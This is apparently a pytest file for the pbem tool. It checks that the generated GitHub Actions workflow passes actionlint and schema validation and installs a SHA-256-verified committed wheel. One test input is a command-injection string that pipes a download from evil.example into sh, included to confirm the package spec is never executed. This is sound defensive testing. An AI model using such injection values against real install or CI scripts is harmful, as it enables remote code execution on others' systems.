"""The CI workflow ``pbem git init`` writes runs on today's GitHub and installs this very pbem
(issue 15, point 11).

Every generated workflow is checked with actionlint (which knows which action versions run on
a runtime GitHub is removing) and with check-jsonschema's copy of the GitHub workflow schema;
both are in the test extra. By default the workflow installs the wheel of the pbem that made the
game, committed into ``.pbem/`` and checked by its SHA-256; ``--package SPEC`` installs SPEC.
"""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import pbem
from tests.support.cli import made_secrets
from tests.support.git_repo import isolated_git
from tests.support.git_repo import pbem as run_pbem

__all__ = ["isolated_git"]  # a fixture, used by name
TOOL_TIMEOUT = 300  # seconds: a hang guard only
BIN = Path(sys.executable).parent


def _init(root: Path, *extra: str) -> Path:
    with made_secrets():
        result = run_pbem("git", "init", root, "--players", "red,blue", "--id", "harbour",
                          *extra)
    assert result.exit_code == 0, result.output
    return root / ".github" / "workflows" / "pbem.yml"


def _tool(*command: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(c) for c in command], capture_output=True, text=True,
                          timeout=TOOL_TIMEOUT, check=False)


def _check(workflow: Path) -> None:
    linted = _tool(BIN / "actionlint", "-no-color", workflow)
    assert linted.returncode == 0, linted.stdout + linted.stderr
    schema = _tool(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows",
                   workflow)
    assert schema.returncode == 0, schema.stdout + schema.stderr


def _steps(workflow: Path) -> list[dict[str, object]]:
    data = yaml.safe_load(workflow.read_text(encoding="utf-8"))
    steps = data["jobs"]["process"]["steps"]
    assert isinstance(steps, list)
    return steps


def test_the_default_workflow_passes_actionlint_and_the_schema(isolated_git: None,
                                                                tmp_path: Path) -> None:
    workflow = _init(tmp_path / "game")
    _check(workflow)
    uses = [str(step["uses"]) for step in _steps(workflow) if "uses" in step]
    assert uses == ["actions/checkout@v7", "actions/setup-python@v7"]  # node24, not node20


def test_the_workflow_installs_the_committed_wheel_of_this_pbem(isolated_git: None,
                                                                tmp_path: Path) -> None:
    root = tmp_path / "game"
    workflow = _init(root)
    (install,) = [s for s in _steps(workflow) if s.get("name") == "Install pbem"]
    script = str(install["run"])
    found = re.search(r'echo "([0-9a-f]{64})  (\.pbem/pbem-[^"]+\.whl)" \| sha256sum', script)
    assert found is not None, script
    digest, name = found.groups()
    wheel = root / name
    assert hashlib.sha256(wheel.read_bytes()).hexdigest() == digest
    assert f'pip install "{name}"' in script
    tracked = subprocess.run(["git", "ls-files", name], cwd=root, capture_output=True,
                             text=True, check=True, timeout=TOOL_TIMEOUT).stdout
    assert tracked.strip() == name  # committed with the game
    target = tmp_path / "installed"
    installed = _tool(sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-index",
                      "--target", target, wheel)
    assert installed.returncode == 0, installed.stderr
    here = Path(pbem.__file__).parent
    for module in ("gitmode/signed.py", "files/game_file.py", "cli/app.py"):
        assert (target / "pbem" / module).read_bytes() == (here / module).read_bytes()
    assert (target / "pbem" / "_schemas" / "order.schema.json").is_file()
    ran = subprocess.run([sys.executable, "-m", "pbem", "git", "--help"], cwd=tmp_path,
                         env={"PYTHONPATH": str(target), "PATH": str(BIN)},
                         capture_output=True, text=True, timeout=TOOL_TIMEOUT, check=False)
    assert ran.returncode == 0 and "git process" in ran.stdout, ran.stderr


def test_the_same_pbem_gives_the_same_wheel(isolated_git: None, tmp_path: Path) -> None:
    first, second = _init(tmp_path / "a"), _init(tmp_path / "b")
    assert first.read_text(encoding="utf-8") == second.read_text(encoding="utf-8")


@pytest.mark.parametrize("spec", ["pbem==0.1.0", "pbem @ https://example.org/pbem.whl",
                                  'pbem"; curl evil.example | sh; echo "'])
def test_a_package_spec_is_installed_as_given_and_never_run(isolated_git: None,
                                                            tmp_path: Path, spec: str) -> None:
    root = tmp_path / "game"
    workflow = _init(root, "--package", spec)
    _check(workflow)
    (install,) = [s for s in _steps(workflow) if s.get("name") == "Install pbem"]
    assert install["env"] == {"PBEM_PACKAGE": spec}  # a value, never part of the script
    assert install["run"] == 'pip install "$PBEM_PACKAGE"'
    assert not (root / ".pbem").exists()
